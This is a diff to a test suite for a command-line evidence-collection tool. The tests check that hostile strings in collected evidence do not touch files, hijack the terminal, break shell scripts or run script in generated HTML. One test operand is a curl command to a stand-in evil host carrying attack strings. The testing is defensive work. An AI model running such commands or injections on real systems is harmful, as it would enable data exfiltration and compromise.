@@ -30,9 +30,10 @@ const forms = commands.flatMap(({ name, formats }) =>
 const outputs = new Map<string, Output>();
 
 beforeAll(async () => {
-  const home = buildHostileHome(folder);
-  const bag = join(tmpdir(), `${folder.split('/').at(-1)}-bag`);
-  await runCli(['collect', bag, '--home', home, '--root', folder]);
+  const root = join(folder, 'evidence');
+  const home = buildHostileHome(root);
+  const bag = join(folder, 'bag');
+  await runCli(['collect', bag, '--home', home, '--root', root]);
   const operands: Readonly<Record<string, readonly string[]>> = {
     scan: [join(home)],
     explain: [`curl https://${evilHost}/ ${Object.values(attacks).slice(0, -1).join(' ')}`],
@@ -50,7 +51,7 @@ beforeAll(async () => {
       '--home',
       home,
       '--root',
-      folder,
+      root,
     ];
     const { code, stdout, stderr } = await runCli(argv, {
       env: { FORCE_COLOR: '1', PATH: process.env['PATH'] ?? '' },
@@ -65,7 +66,6 @@ beforeAll(async () => {
     outputs.set(`${name} ${format}`, { name, format, text: stdout });
     outputs.set(`${name} ${format} (standard error)`, { name, format: 'text', text: stderr });
   }
-  rmSync(bag, { recursive: true });
 }, 60_000);
 
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
@@ -91,7 +91,8 @@ describe('hostile strings in the evidence', () => {
 
   it('touch no file', () => {
     expect(existsSync('/tmp/pwned')).toBe(false);
-    expect(readdirSync(folder)).toEqual(['home']);
+    expect(readdirSync(folder).sort()).toEqual(['bag', 'evidence']);
+    expect(readdirSync(join(folder, 'evidence'))).toEqual(['home']);
   });
 
   it('change neither title, links nor screen of a terminal', async () => {
@@ -169,10 +170,7 @@ describe('hostile strings in the evidence', () => {
 
   it('break no shell script', () => {
     for (const { name, text } of inFormats('sh')) {
-      const script = join(tmpdir(), `${folder.split('/').at(-1)}.sh`);
-      writeFileSync(script, text);
-      expect([name, execFileSync('sh', ['-n', script], { encoding: 'utf8' })]).toEqual([name, '']);
-      rmSync(script);
+      expect([name, execFileSync('sh', ['-n'], { input: text, encoding: 'utf8' })]).toEqual([name, '']);
     }
   });
 });
@@ -199,7 +197,7 @@ describe.skipIf(browserPath === undefined)(
 
     it('run no script, ask for nothing, and open nothing', async () => {
       for (const { name, text } of inFormats('html')) {
-        const file = join(tmpdir(), `${folder.split('/').at(-1)}.html`);
+        const file = join(folder, `${name}.html`);
         writeFileSync(file, text);
         const page = await browser.newPage();
         const acts: string[] = [];
@@ -216,7 +214,6 @@ describe.skipIf(browserPath === undefined)(
         ...[...element.attributes].filter(({ name, value }) => /^on/i.test(name) || /javascript:|https?:/i.test(value) && name !== 'xmlns').map(({ name }) => name),
       ])`);
         await page.close();
-        rmSync(file);
         expect([name, acts.filter((act) => !act.startsWith('request file:')), active]).toEqual([
           name,
           [],
